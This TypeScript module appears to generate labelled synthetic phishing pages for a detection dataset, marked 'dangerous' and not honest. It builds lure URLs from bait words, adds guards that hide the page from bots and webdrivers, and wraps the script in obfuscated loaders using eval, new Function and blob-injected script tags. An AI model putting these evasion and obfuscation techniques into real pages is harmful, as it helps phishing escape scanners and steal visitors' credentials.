import type { Family } from '../family.ts'
import type { Chance } from '../make/chance.ts'
import { detour, lureUrl } from '../make/hosts/by-target.ts'
import { kitPlace } from '../make/hosts/hosting.ts'
import { urlAt } from '../make/hosts/hosts.ts'
import { escaped } from '../make/pages/layout.ts'
import { packed } from './late/coders.ts'
import { type Drawer, drawerOf, stringsOf } from './late/drawers.ts'
import { formOf } from './late/form.ts'
import { type Moment, momentOf, type Names } from './late/moments.ts'
import { type Held, heldOf, literal, unpacked } from './late/places.ts'
import { shellOf } from './late/shells.ts'
import { type Sink, sinkOf } from './late/sinks.ts'
import { type Claim, claimOf } from './late/targets.ts'
import { htmlOf, type Piece } from './late/tree.ts'

const BAITS = [
  'signin',
  'verify',
  'secure',
  'portal',
  'my',
  'docs',
  'review',
  'restore',
  'access',
  'notice',
  'id',
  'pay',
]
const FILES = ['', '', '', 'index.html', 'index.php', 'home.htm', 'en/', 'r/', 'app.html']
/** Ids of what a visitor presses. */
export const OPENERS = ['go', 'continue', 'proceed', 'enter', 'open-doc', 'human']

const name = (chance: Chance) =>
  chance.of([
    `_0x${chance.hex(6)}`,
    chance.letters(2 + chance.below(6)),
    `${chance.letters(4)}${chance.digits(2)}`,
  ])

/** The form in the notation that the script reads. */
function textOf({ of }: Drawer, form: Piece, claim: Claim, { code }: Sink): string {
  if (of === 'tree') return JSON.stringify(form)
  if (of === 'strings') return JSON.stringify(stringsOf(form))
  if (of === 'part') return htmlOf(form)
  const script = code === '' ? '' : `<script>${code}</script>`
  return `<!doctype html><html lang="${claim.tongue}"><head><meta charset="utf-8"><title>${escaped(claim.name)}</title></head><body>${htmlOf(form)}${script}</body></html>`
}

const GUARDS = [
  'if(navigator.webdriver)return;',
  'if(/bot|crawl|spider|curl/i.test(navigator.userAgent))return;',
  'if(!window.screen.width)return;',
]

/** The script: a function that draws, and the code that calls it at its moment. */
function scriptOf(
  { given }: Held,
  isLater: boolean,
  draw: string,
  names: Names,
  moment: Moment,
  claimed: string,
  chance: Chance,
): string {
  const guard = chance.maybe(0.12) ? chance.of(GUARDS) : ''
  const clear = chance.maybe(0.85) ? `var w=document.getElementById("${names.wait}");w&&w.remove();` : ''
  const title = chance.maybe(0.3) ? `document.title=${literal(claimed)};` : ''
  const body = isLater ? `${given}.then(function(h){${clear}${draw}})` : `var h=${given};${clear}${draw}`
  return `window["${names.run}"]=function(){${guard}${title}${body}};${moment.code(names, chance)}`
}

/** The script as it is, or as a text that another one unpacks and runs. */
function wrapped(code: string, isAnyTime: boolean, chance: Chance): string {
  const roll = chance.below(20)
  if (roll < 9) return code
  if (roll < 14) return `(function(){${code}})();`
  const once = packed(code, false, chance)
  const text = once.read(literal(once.value))
  const AT_ONCE = [
    `eval(${text})`,
    `(0,eval)(${text})`,
    `new Function(${text})()`,
    `[].filter.constructor(${text})()`,
    `var j=document.createElement("script");j.text=${text};document.body.appendChild(j)`,
  ]
  const LATER = [
    `setTimeout(new Function(${text}),${chance.below(90)})`,
    `import("data:text/javascript;charset=utf-8,"+encodeURIComponent(${text}))`,
    `var j=document.createElement("script");j.src=URL.createObjectURL(new Blob([${text}],{type:"text/javascript"}));document.head.append(j)`,
  ]
  return chance.of(isAnyTime ? [...AT_ONCE, ...LATER] : AT_ONCE)
}

const addressOf = (claim: Claim, chance: Chance) => {
  const file = chance.of(FILES)
  if (chance.maybe(0.6)) return lureUrl(chance.maybe(0.6) ? claim : null, BAITS, file, chance)
  return new URL(urlAt(kitPlace(claim.label, claim.domain, chance), file)).href
}

export const lateLoaderKit: Family = {
  id: 'late_loader_kit',
  expected: 'dangerous',
  split: 'dev',
  make(chance) {
    const claim = claimOf(chance)
    const url = addressOf(claim, chance)
    const sink = sinkOf(claim, url, chance)
    const form = formOf(claim, sink, chance)
    const moment = momentOf(chance)
    const isAtOnce = moment.isAtOnce === true
    const drawer = drawerOf(isAtOnce, chance)
    const text = textOf(drawer, form, claim, sink)
    const [run, wait, mount, holder] = [
      `${name(chance)}R`,
      `${chance.letters(5)}w`,
      `${chance.letters(4)}m`,
      `${chance.letters(5)}h`,
    ]
    const names = { run, wait, button: chance.of(OPENERS) }
    const pack = packed(text, drawer.isAtOnce !== true, chance)
    const isBare = drawer.of === 'part' && chance.maybe(0.15)
    const held = isBare ? unpacked(text, holder, chance) : heldOf(pack, holder, chance)
    const draw = drawer.code(`document.getElementById("${mount}")`, chance, form)
    const hand = drawer.of === 'document' ? '' : sink.code
    const code = hand + scriptOf(held, pack.isLater && !isBare, draw, names, moment, claim.name, chance)
    const body = shellOf(
      {
        head: held.head,
        held: held.body,
        mount,
        script: wrapped(code, moment.isAnyTime, chance).replaceAll('</', '<\\/'),
        after: moment.after?.(names) ?? '',
      },
      claim,
      moment,
      names,
      chance,
    )
    return { url, body, way: detour(url, chance), isHonest: false }
  },
}
